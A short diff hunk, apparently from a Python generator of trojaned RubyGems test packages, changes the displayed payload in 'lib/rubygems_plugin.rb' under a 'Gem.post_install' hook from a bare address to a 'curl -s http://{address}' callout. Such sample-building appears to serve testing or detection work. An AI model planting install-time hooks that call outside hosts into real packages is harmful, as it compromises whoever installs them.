@@ -128,7 +128,7 @@ Gem.post_install do |installer|
 end
 """,
     )
-    up.payload("lib/rubygems_plugin.rb", shown=address)
+    up.payload("lib/rubygems_plugin.rb", shown=f"curl -s http://{address}")
 
 
 @trojan(
